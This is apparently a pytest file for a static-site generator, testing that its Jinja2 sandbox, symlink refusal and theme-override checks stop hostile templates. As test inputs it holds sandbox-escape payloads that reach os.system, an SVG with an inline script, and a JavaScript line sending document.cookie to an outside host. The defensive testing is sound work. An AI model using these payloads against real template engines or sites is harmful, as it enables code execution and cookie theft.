"""Templates and theme overrides are code: a repository's templates run in a sandbox, no
file in templates/ is read through a symbolic link, and what a theme override may add to
the site is checked like everything else in it."""

from __future__ import annotations

import os
from pathlib import Path

import jinja2
import jinja2.sandbox
import pytest

from hpkb.outputs.site.markdown_text import Md
from hpkb.outputs.site.pages import _site_env
from hpkb.outputs.site.templates import (
    package_dir,
    sandboxed_environment,
    template_dirs,
    template_links,
    template_loader,
)
from tests.conftest import AS_OF, run_cli

posix_only = pytest.mark.skipif(os.name != "posix", reason="symlinks need POSIX")


def _env(**templates: str) -> jinja2.Environment:
    return sandboxed_environment(jinja2.DictLoader(templates))


@pytest.mark.parametrize("source", [
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__ }}",
    "{% set x = lipsum._x %}",
    "{{ self['__class__'] }}",
])
def test_a_template_reaching_inside_a_value_is_refused_as_it_is_compiled(source: str) -> None:
    with pytest.raises(jinja2.TemplateSyntaxError) as refused:
        _env(t=f"line one\n{source}\n").get_template("t")
    assert refused.value.lineno == 2 and "not allowed" in str(refused.value)


@pytest.mark.parametrize("source", [
    "{{ ''|attr('__cla' ~ 'ss__') }}",
    "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'] }}",
    "{{ values.update({'a': 1}) }}",
    "{{ values|attr('_' ~ '_class__') }}",
])
def test_the_sandbox_refuses_the_ways_round_as_the_template_runs(source: str) -> None:
    template = _env(t=source).get_template("t")
    with pytest.raises(jinja2.TemplateError):
        template.render(values={"b": 2})


def test_the_site_templates_filters_and_finalize_work_in_the_sandbox(tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "t.md.j2").write_text(
        "{{ title }} {{ made }} {{ 'near-miss' | label }} {{ '2024-03-05' | date }} "
        "{{ '<b>' | h }} {{ 'x: \"y\"' | yaml }} {{ '{:,}'.format(1234567) }}\n", "utf-8")
    env = _site_env([tmp_path], None)
    assert isinstance(env, jinja2.sandbox.ImmutableSandboxedEnvironment)
    text = env.get_template("t.md.j2").render(title="<script>*x*</script>", made=Md("**ok**"))
    assert text == ('&lt;script&gt;\\*x\\*&lt;/script&gt; **ok** Near miss 5 March 2024 '
                    '&lt;b&gt; "x: &quot;y&quot;" 1,234,567\n')


def _findings(stdout: str, code: str) -> list[str]:
    return [line for line in stdout.splitlines() if f" {code} " in line]


def test_a_template_override_reaching_inside_a_value_fails_the_build(starter: Path) -> None:
    assert run_cli(starter, "build", "--as-of", AS_OF).exit_code == 0
    before = (starter / "build/shared/site/index.html").read_bytes()
    override = starter / "templates/site/home.md.j2"
    override.parent.mkdir(parents=True, exist_ok=True)
    override.write_text("# Home\n\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n", "utf-8")
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    [finding] = _findings(result.stdout, "HP703")
    assert finding.startswith("templates/site/home.md.j2:3:")
    assert "not allowed" in finding
    assert (starter / "build/shared/site/index.html").read_bytes() == before


def test_a_template_override_that_gets_round_the_names_never_runs(starter: Path,
                                                                  tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    override = starter / "templates/site/home.md.j2"
    override.parent.mkdir(parents=True, exist_ok=True)
    override.write_text(
        "# Home\n\n"
        f"{{{{ (lipsum|attr('__glo' ~ 'bals__'))['os'].system('touch {ran}') }}}}\n", "utf-8")
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    [finding] = _findings(result.stdout, "HP703")
    assert finding.startswith("templates/site/home.md.j2:3:"), finding
    assert "unsafe" in finding
    assert not ran.exists()


def _secret(tmp_path: Path) -> tuple[Path, bytes]:
    secret = tmp_path / "outside" / "hostname"
    secret.parent.mkdir(parents=True, exist_ok=True)
    text = b"secret-host-7d1f0c\n"
    secret.write_bytes(text)
    return secret, text


def _nowhere_in(folder: Path, text: bytes) -> bool:
    return not any(text.strip() in path.read_bytes() for path in folder.rglob("*")
                   if path.is_file() and not path.is_symlink())


@posix_only
@pytest.mark.parametrize("link", [
    "templates/site/overrides/assets/hostname",  # copied as it was into the site before
    "templates/site/overrides/partials",  # a folder
    "templates/site/home.md.j2",  # a page template
    "templates/site/assets/hpkb.css",  # an asset hpkb reads
])
def test_a_symbolic_link_in_templates_is_refused_and_never_read(
        starter: Path, tmp_path: Path, link: str) -> None:
    secret, text = _secret(tmp_path)
    target = starter / link
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(secret.parent if link.endswith("partials") else secret)
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    assert [line.split(" ", 1)[0] for line in _findings(result.stdout, "HP003")] == \
        [f"{link}:1:1:"]
    assert _nowhere_in(starter / "build", text)


@posix_only
def test_the_template_loader_reads_no_link(tmp_path: Path) -> None:
    """A linked template is passed over for hpkb's own of the same name (the build
    reports the link, and stops)."""
    secret, text = _secret(tmp_path)
    root = tmp_path / "repo"
    (root / "templates" / "site").mkdir(parents=True)
    (root / "templates" / "site" / "page.md.j2").symlink_to(secret)
    (root / "templates" / "site" / "linked").symlink_to(secret.parent)
    env = _site_env(template_dirs(root), None)
    own = env.get_template("page.md.j2")
    assert own.filename is not None and Path(own.filename).is_relative_to(
        package_dir("templates"))
    assert text.decode().strip() not in own.render(text=Md("x"), marking="M", site_name="S")
    with pytest.raises(jinja2.TemplateNotFound):
        env.get_template("linked/hostname")
    with pytest.raises(jinja2.TemplateNotFound):  # TemplateLink, as the repo's alone
        template_loader([root / "templates"], "site").get_source(env, "page.md.j2")
    assert [f.file for f in template_links(root)] == ["templates/site/linked",
                                                      "templates/site/page.md.j2"]


@pytest.mark.parametrize("name", ["overrides/evil.svg", "overrides/assets/x.js",
                                  "overrides/page.htm", "overrides/sitemap.xml"])
def test_a_theme_override_that_is_no_template_or_style_is_refused(starter: Path,
                                                                  name: str) -> None:
    override = starter / "templates/site" / name
    override.parent.mkdir(parents=True, exist_ok=True)
    override.write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>"
                        "</svg>\n", "utf-8")
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    [finding] = _findings(result.stdout, "HP703")
    assert finding.startswith(f"templates/site/{name}:1:1:")


def test_a_script_the_repository_replaces_is_refused(starter: Path) -> None:
    """hpkb's own scripts are listed by digest: a repository's copy that differs (an
    edit, or an older hpkb's copy) fails the build, naming the file."""
    assets = starter / "templates/site/assets"
    assets.mkdir(parents=True, exist_ok=True)
    (assets / "finder.js").write_text("fetch('https://x.org/?' + document.cookie);\n", "utf-8")
    (assets / "hpkb.css").write_text("@import url(https://fonts.example.org/a.css);\n",
                                     "utf-8")
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    found = {line.split(" ", 1)[0]: line for line in _findings(result.stdout, "HP702")}
    assert set(found) == {"site/assets/finder.js:1:1:", "site/assets/hpkb.css:1:1:"}
    assert "(from templates/site/assets/finder.js)" in found["site/assets/finder.js:1:1:"]
    assert "a stylesheet that loads" in found["site/assets/hpkb.css:1:1:"]


def test_a_theme_override_script_on_every_page_is_refused(starter: Path) -> None:
    """Outside the content area too: a theme override can put a script, or a request to
    another host, on every page."""
    assert run_cli(starter, "build", "--as-of", AS_OF).exit_code == 0
    before = (starter / "build/shared/site/index.html").read_bytes()
    override = starter / "templates/site/overrides/main.html"
    override.parent.mkdir(parents=True, exist_ok=True)
    override.write_text(
        '{% extends "base.html" %}\n'
        '{% block extrahead %}<link rel="stylesheet" href="https://x.org/a.css">{% endblock %}\n'
        "{% block footer %}{{ super() }}<script>alert(1)</script>{% endblock %}\n", "utf-8")
    result = run_cli(starter, "build", "--as-of", AS_OF)
    assert result.exit_code == 1 and result.exception is None
    findings = _findings(result.stdout, "HP702")
    pages = {p.relative_to(starter / "build/shared/site").as_posix()
             for p in (starter / "build/shared/site").rglob("*.html")}
    assert {f"site/{page}" for page in pages} <= {f.split(":", 1)[0] for f in findings}
    assert all(finding.endswith("outside the content area (a template or theme override in "
                                "templates/site/ put it there: remove it (report it if the "
                                "repository overrides nothing there))")
               for finding in findings), findings[:2]
    assert any("URL 'https://x.org/a.css' in href" in finding for finding in findings)
    assert any("an inline script not on hpkb's list" in finding for finding in findings)
    assert (starter / "build/shared/site/index.html").read_bytes() == before
